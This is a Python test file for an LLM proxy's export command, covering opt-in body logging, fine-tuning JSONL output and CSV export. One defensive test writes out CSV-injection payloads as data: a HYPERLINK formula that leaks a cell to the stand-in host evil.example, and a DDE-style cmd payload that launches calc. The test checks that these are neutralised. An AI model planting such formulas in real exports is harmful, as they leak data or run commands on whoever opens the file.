"""Body logging (opt-in per key) and `python -m proxy export` (fine-tuning JSONL, CSV)."""

from __future__ import annotations

import csv
import json
import time
from pathlib import Path

import pytest
from openai.types.chat import ChatCompletionMessageParam
from pydantic import TypeAdapter

from proxy.__main__ import main
from proxy.observe.export import spreadsheet_safe
from proxy.testing import LiveProxy, insert_entries, sample_entry
from tests.e2e.test_chat_e2e import WEATHER_TOOL

SYSTEM = {"role": "system", "content": "You are terse."}
MESSAGES = TypeAdapter(list[ChatCompletionMessageParam])


def _config_file(tmp_path: Path) -> Path:
    path = tmp_path / "export-config.toml"
    path.write_text(f"""
[[upstreams]]
name = "fake"
base_url = "http://127.0.0.1:9/v1"
[storage]
sqlite_path = "{tmp_path / 'proxy.db'}"
""")
    return path


@pytest.fixture
def logged(tmp_path: Path) -> tuple[Path, list[str]]:
    """A finished proxy run where alice logs bodies (one plain, one streamed) and bob does not."""
    answers = []
    with LiveProxy(tmp_path, config={"keys": {"alice": {"log_bodies": True}}}) as live:
        alice = live.client()
        answers.append(alice.chat.completions.create(
            model="gpt-4o", messages=[SYSTEM, {"role": "user", "content": "first question"}]
        ).choices[0].message.content)
        stream = alice.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "second question"}],
            stream=True)
        answers.append("".join(c.choices[0].delta.content or "" for c in stream if c.choices))
        live.client("bob").chat.completions.create(
            model="gpt-4o", messages=[{"role": "user", "content": "bob's secret"}])
    return _config_file(tmp_path), answers


def _export(config: Path, out: Path, *extra: str) -> int:
    return main(["export", "--config", str(config), "--out", str(out), *extra])


def test_jsonl_holds_logged_conversations_with_their_answers(
        logged: tuple[Path, list[str]], tmp_path: Path) -> None:
    config, answers = logged
    out = tmp_path / "train.jsonl"
    assert _export(config, out, "--format", "openai-jsonl") == 0
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [line["messages"] for line in lines] == [
        [SYSTEM, {"role": "user", "content": "first question"},
         {"role": "assistant", "content": answers[0]}],
        [{"role": "user", "content": "second question"},
         {"role": "assistant", "content": answers[1]}],
    ]


def test_jsonl_lines_are_valid_openai_chat_messages(logged: tuple[Path, list[str]],
                                                    tmp_path: Path) -> None:
    out = tmp_path / "train.jsonl"
    _export(logged[0], out, "--format", "openai-jsonl")
    for line in out.read_text().splitlines():
        example = json.loads(line)
        assert set(example) == {"messages"}
        messages = MESSAGES.validate_python(example["messages"])
        assert messages[-1]["role"] == "assistant" and messages[-1]["content"]


def test_keys_without_body_logging_are_never_exported(logged: tuple[Path, list[str]],
                                                      tmp_path: Path) -> None:
    out = tmp_path / "bob.jsonl"
    assert _export(logged[0], out, "--format", "openai-jsonl", "--key", "bob") == 0
    assert out.read_text() == ""
    everything = tmp_path / "all.jsonl"
    _export(logged[0], everything, "--format", "openai-jsonl")
    assert "bob's secret" not in everything.read_text()


def test_csv_has_one_row_per_ledger_row(logged: tuple[Path, list[str]], tmp_path: Path) -> None:
    out = tmp_path / "ledger.csv"
    assert _export(logged[0], out, "--format", "csv") == 0
    rows = list(csv.DictReader(out.open()))
    assert [r["tenant"] for r in rows] == ["alice", "alice", "bob"]
    assert all(float(r["cost_usd"]) > 0 for r in rows)
    assert {"baseline_usd", "prompt_hash", "latency_ms", "stage"} <= set(rows[0])


FORMULA_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_ID = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_csv_cells_a_client_controls_cannot_run_as_formulas(tmp_path: Path) -> None:
    with LiveProxy(tmp_path) as live:
        live.client().chat.completions.create(
            model=FORMULA_MODEL, messages=[{"role": "user", "content": "hi"}])
        insert_entries(live, [sample_entry(ts=time.time(), status=500, error="+1-2\tboom",
                                           request_id=FORMULA_ID)])
        sent_model = live.fake.received[0]["model"]
    out = tmp_path / "ledger.csv"
    assert _export(_config_file(tmp_path), out, "--format", "csv") == 0
    rows = list(csv.DictReader(out.open(newline="")))
    assert sent_model == FORMULA_MODEL
    assert rows[0]["requested_model"] == "'" + FORMULA_MODEL
    assert (rows[1]["request_id"], rows[1]["error"]) == ("'" + FORMULA_ID, "'+1-2\tboom")
    assert float(rows[0]["cost_usd"]) > 0  # numbers stay numbers


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("gpt-4o", "gpt-4o"), ("a=b", "a=b"), ("", ""), (-1.5, -1.5), (3, 3),
    (None, None),
])
def test_spreadsheet_safe_quotes_only_formula_starts(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written


def test_export_window_excludes_other_days(logged: tuple[Path, list[str]],
                                           tmp_path: Path) -> None:
    out = tmp_path / "old.csv"
    _export(logged[0], out, "--format", "csv", "--from", "2001-01-01", "--to", "2001-01-02")
    assert out.read_text() == ""


def test_tool_call_answers_are_not_exported(tmp_path: Path) -> None:
    with LiveProxy(tmp_path, config={"keys": {"alice": {"log_bodies": True}}}) as live:
        live.client().chat.completions.create(
            model="gpt-4o", messages=[{"role": "user", "content": "get weather in Paris"}],
            tools=[WEATHER_TOOL])
    out = tmp_path / "tools.jsonl"
    _export(_config_file(tmp_path), out, "--format", "openai-jsonl")
    assert out.read_text() == ""


def test_export_of_a_missing_database_fails_clearly(tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    assert _export(_config_file(tmp_path), tmp_path / "x.csv", "--format", "csv") == 1
    assert "no database" in capsys.readouterr().err
